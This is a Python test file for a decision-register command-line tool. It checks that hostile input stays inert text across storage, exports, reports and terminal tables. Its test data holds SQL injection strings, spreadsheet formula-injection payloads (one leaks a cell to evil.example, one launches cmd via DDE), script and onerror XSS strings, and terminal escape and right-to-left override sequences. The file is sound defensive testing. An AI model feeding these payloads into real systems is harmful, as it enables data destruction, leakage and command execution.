"""Hostile content stays data: SQL, HTML, spreadsheet formulas, control characters and
right-to-left marks, a 10 MB line, and paths with spaces and letters beyond ASCII.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from delreg.cli.environment import Environment
from delreg.cli.output import show_table, table_safe
from delreg.model import Decision
from delreg.spreadsheet import FORMULA_STARTS, protect, unprotect
from delreg.store import DecisionQuery, OpenMode, Store
from tests.helpers import Invoke, as_json

SQL = [
    "'); DROP TABLE decisions; --",
    "Robert'); DELETE FROM events WHERE ('1' = '1",
    '" OR 1=1 --',
    "x' UNION SELECT name, sql FROM sqlite_master --",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''+twice",
]
TABLES = {"decisions", "events", "meetings", "reportings", "notices", "kinds"}


def add(delreg: Invoke, number: str, subject: str, *options: str) -> None:
    result = delreg(
        "add", "--kind", "beslut", "--diary-number", number, "--subject", subject, *options
    )
    assert result.exit_code == 0, result.stderr


def tables(database: Path) -> set[str]:
    with closing(sqlite3.connect(database)) as connection:
        return {row[0] for row in connection.execute("SELECT name FROM sqlite_master")}


def listed(delreg: Invoke, *options: str, db: Path | None = None) -> list[dict[str, object]]:
    chosen = ("--db", str(db)) if db else ()
    result = delreg(*chosen, "list", "--format", "json", *options)
    assert result.exit_code == 0, result.stderr
    rows: list[dict[str, object]] = as_json(result)
    return rows


def test_sql_in_a_subject_and_a_party_is_kept_as_text(delreg: Invoke, database: Path) -> None:
    for serial, text in enumerate(SQL, start=1):
        add(delreg, f"24RS{serial}", text, "--party", text)
    assert tables(database) >= TABLES
    shown = {row["subject"]: row["parties"] for row in listed(delreg)}
    assert shown == {text: [text] for text in SQL}
    assert delreg("verify").exit_code == 0


SEARCHES = [
    *SQL,
    '"',
    "*",
    "NEAR(a b)",
    "subject:ultraljud",
    "ultraljud AND OR NOT",
    "(((",
    "^",
    "\x00",
    "%",
    "_",
    "\\",
    "'",
    "",
]


@pytest.mark.parametrize("query", SEARCHES, ids=repr)
def test_search_and_party_filters_take_any_text(delreg: Invoke, database: Path, query: str) -> None:
    add(delreg, "24RS1", "ultraljudsutrustning", "--party", "Acme AB")
    add(delreg, "24RS2", "städning 100 % ren", "--party", "Bolag_med_understreck AB")
    for option in ("--search", "--party"):
        found = listed(delreg, option, query)
        assert len(found) <= 2
    assert tables(database) >= TABLES
    # LIKE's wildcards are plain characters in --party.
    assert [row["diary_number"] for row in listed(delreg, "--party", "_med_")] == ["24RS2"]
    assert listed(delreg, "--party", "%") == []


@pytest.fixture(scope="module")
def searched_register(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    from delreg.model import Decision

    with Store.open(
        tmp_path_factory.mktemp("search") / "register.db", mode=OpenMode.CREATE
    ) as store:
        store.add(Decision("24RS1", "beslut", "ultraljudsutrustning", parties=("Acme AB",)))
        store.add(Decision("24RS2", "avtal", "städning 100 % ren", parties=("Bolag_x AB",)))
        yield store


@settings(max_examples=200, deadline=None)
@given(text=st.text(max_size=30))
def test_any_search_text_is_a_search_not_a_query(searched_register: Store, text: str) -> None:
    for query in (DecisionQuery(search=text), DecisionQuery(party=text)):
        found = list(searched_register.decisions(query))
        assert len(found) <= 2


def test_html_in_a_subject_is_escaped_in_the_reports(delreg: Invoke) -> None:
    assert delreg("meetings", "add", "2024-02-15").exit_code == 0
    script = "<script>alert('delreg')</script>"
    image = '"><img src=x onerror=alert(1)>'
    add(delreg, "24RS1", f"tolkning {script}", "--party", image, "--decided-on", "2024-01-10")
    add(delreg, "24RS2", "[länk](javascript:alert(1)) *fet*", "--decided-on", "2024-01-11")
    html = delreg("report", "--meeting", "2024-02-15", "--format", "html").stdout
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;" in html
    markdown = delreg("report", "--meeting", "2024-02-15", "--format", "md").stdout
    # Markdown escapes what would make a tag or a link: "\\[länk\\](…)" is text.
    assert re.search(r"(?<!\\)<", markdown) is None  # every "<" escaped: no tag
    assert "[länk](javascript" not in markdown and "\\[länk\\]" in markdown


def exported_cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_formulas_are_marked_as_text_in_csv_exports_and_read_back_whole(
    delreg: Invoke, tmp_path: Path, fmt: str, delimiter: str
) -> None:
    assert delreg("meetings", "add", "2024-02-15").exit_code == 0
    for serial, formula in enumerate(FORMULAS, start=1):
        add(delreg, f"24RS{serial}", formula, "--party", formula, "--decided-on", "2024-01-10")
    exported = delreg("list", "--format", fmt).stdout
    report = delreg("report", "--meeting", "2024-02-15", "--format", "csv").stdout
    for text, separator in ((exported, delimiter), (report, ",")):
        for row in exported_cells(text, separator)[1:]:
            for cell in row:
                assert not cell.startswith(tuple(FORMULA_STARTS)), cell
    subjects = {
        row["subject"] for row in csv.DictReader(io.StringIO(exported), delimiter=delimiter)
    }
    assert subjects == {"'" + formula for formula in FORMULAS}

    other = tmp_path / "other.db"
    result = delreg("--db", str(other), "import", "-", "--format", fmt, input=exported)
    assert result.exit_code == 0, result.stderr
    copied = listed(delreg, db=other)
    assert {row["subject"] for row in copied} == set(FORMULAS)
    assert {tuple(row["parties"]) for row in copied} == {(formula,) for formula in FORMULAS}  # type: ignore[arg-type]


CELL_ALPHABET = "=+-@'\"ab ;,\t\r\nÅ1"


@settings(max_examples=300, deadline=None)
@given(text=st.text(alphabet=CELL_ALPHABET, max_size=12))
def test_protect_and_unprotect_are_exact(text: str) -> None:
    marked = protect(text)
    assert not marked.startswith(tuple(FORMULA_STARTS))
    assert unprotect(marked) == text
    # A cell no export marked keeps its apostrophes unless one stands before a formula start.
    if not text.startswith("'"):
        assert unprotect(text) == text


# The runner fixture holds no state; each example writes registers of its own.
@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    subjects=st.lists(
        st.text(alphabet=CELL_ALPHABET, min_size=1, max_size=12).filter(str.strip),
        min_size=1,
        max_size=4,
    )
)
def test_any_subject_round_trips_through_csv(
    delreg: Invoke, tmp_path_factory: pytest.TempPathFactory, subjects: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("round")
    source, copy = folder / "source.db", folder / "copy.db"
    objects = [
        # CSV joins parties with "; " and escapes a ";" inside a name: it stays one party.
        {"diary_number": f"24RS{serial}", "subject": subject, "parties": [subject, "B AB"]}
        for serial, subject in enumerate(subjects, start=1)
    ]
    loaded = delreg(
        "--db",
        str(source),
        "import",
        "-",
        "--format",
        "json",
        "--skip-invalid",
        input=json.dumps(objects),
    )
    assert loaded.exit_code in (0, 1), loaded.stderr  # a subject of only controls is empty
    if not source.exists():
        # Every subject was empty: a first import that writes nothing leaves no register.
        assert loaded.exit_code == 1, loaded.stderr
        return
    exported = delreg("--db", str(source), "list", "--format", "csv").stdout
    result = delreg("--db", str(copy), "import", "-", "--format", "csv", input=exported)
    assert result.exit_code == 0, result.stderr

    def by_number(db: Path) -> list[dict[str, object]]:
        return sorted(listed(delreg, db=db), key=lambda row: str(row["diary_number"]))

    assert by_number(copy) == by_number(source)


def test_control_characters_become_spaces_and_bidi_marks_stay(delreg: Invoke) -> None:
    add(delreg, "24RS1", "ultra\x07ljud\x1b[2J\x00x", "--party", "Acme\x0b AB\x9b31m")
    add(delreg, "24RS2", "avtal \u202eBA daeliG\u202c", "--party", "\u200fشركة الرعاية AB")
    first, second = sorted(listed(delreg), key=lambda row: str(row["diary_number"]))
    assert first["subject"] == "ultra ljud [2J x" and first["parties"] == ["Acme AB 31m"]
    # Right-to-left marks can belong to a name: stored as given.
    assert second["subject"] == "avtal \u202eBA daeliG\u202c"
    assert second["parties"] == ["\u200fشركة الرعاية AB"]
    # A person's table shows them as code points, so an override cannot reorder what it shows.
    table = delreg("list").stdout
    assert "\u202e" not in table and "\u200f" not in table
    assert "<U+202E>BA daeliG<U+202C>" in table and "<U+200F>شركة" in table
    shown = delreg("show", "24RS2").stdout
    assert "\u202e" not in shown and "<U+202E>" in shown


def test_control_characters_in_an_agenda_become_spaces() -> None:
    from delreg.config import load_config
    from delreg.parse.agenda import read_agenda

    text = (
        "Anmälningsärenden\n1. Hälso- och sjukvårdsdirektören har fattat tilldelningsbeslut för "
        "ultra\x1b[2Jljud\x07 MT 2023-0043, 23RS710.\n"
    )
    (decision,) = read_agenda(text, source="x", config=load_config())
    assert isinstance(decision, Decision)
    for value in (decision.subject, decision.wording or ""):
        assert not any(ord(char) < 0x20 or 0x7F <= ord(char) < 0xA0 for char in value), value


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_terminal_table_shows_markup_and_escapes_as_text() -> None:
    screen = Terminal()
    env = Environment(stdout=screen)
    hostile = "[link=http://evil.example]klicka[/link] :warning: \x1b]8;;http://x\x1b\\ \u202e"
    show_table(env, "[bold]titel", ["[red]dnr"], [[hostile]])
    shown = screen.getvalue()
    assert "\x1b]8" not in shown and "\u202e" not in shown
    assert "[link=http://evil.example]" in shown and "[bold]titel" in shown
    assert ":warning:" in shown and "<U+001B>" in shown
    assert table_safe("Region Örebro län") == "Region Örebro län"


def test_a_10_mb_line(delreg: Invoke, tmp_path: Path) -> None:
    line = "ultraljudsutrustning, Acme AB – " * 320_000  # 10 MB, no line break
    agenda = tmp_path / "dagordning.txt"
    agenda.write_text("Anmälningsärenden\n1. " + line + " 23RS1.\n", encoding="utf-8")
    result = delreg("import", str(agenda))
    assert result.exit_code in (0, 1), result.stderr
    assert "Traceback" not in result.stderr

    export = tmp_path / "export.csv"
    export.write_text("diary_number,subject\n23RS2," + line + "\n", encoding="utf-8")
    refused = delreg("import", str(export))
    assert refused.exit_code == 2
    assert "longer than" in refused.stderr.splitlines()[0]

    # JSON keeps the same limits as CSV (issue 19): one object is at most [limits] line_chars.
    objects = tmp_path / "export.json"
    objects.write_text(json.dumps([{"diary_number": "23RS3", "subject": line}]), encoding="utf-8")
    refused = delreg("import", str(objects))
    assert refused.exit_code == 2
    assert "longer than" in refused.stderr.splitlines()[0]


def test_paths_with_spaces_and_unicode(delreg: Invoke, tmp_path: Path) -> None:
    folder = tmp_path / "mapp med mellanslag – Örebro ✓"
    folder.mkdir()
    database = folder / "register för nämnden.db"
    export = folder / "beslut (kopia) åäö ✓.csv"
    export.write_text("diary_number,subject\n23RS1,ultraljud\n", encoding="utf-8")
    db = ("--db", str(database))
    assert delreg(*db, "import", str(export)).exit_code == 0
    assert listed(delreg, db=database)[0]["source"] == f"{export}:2"
    assert delreg(*db, "meetings", "add", "2024-02-15").exit_code == 0
    report = folder / "anmälningsärenden – offentlig.html"
    result = delreg(*db, "report", "--meeting", "2024-02-15", "-o", str(report))
    assert result.exit_code == 0, result.stderr
    assert "ultraljud" in report.read_text(encoding="utf-8")
    copy = folder / "säkerhetskopia 2024 ✓.db"
    assert delreg(*db, "backup", str(copy)).exit_code == 0
    add_result = delreg(*db, "add", "--kind", "beslut", "--diary-number", "23RS2", "--subject", "x")
    assert add_result.exit_code == 0
    restored = delreg(*db, "restore", str(copy), "--yes")
    assert restored.exit_code == 0, restored.stderr
    assert [row["diary_number"] for row in listed(delreg, db=database)] == ["23RS1"]
    assert delreg(*db, "verify").exit_code == 0
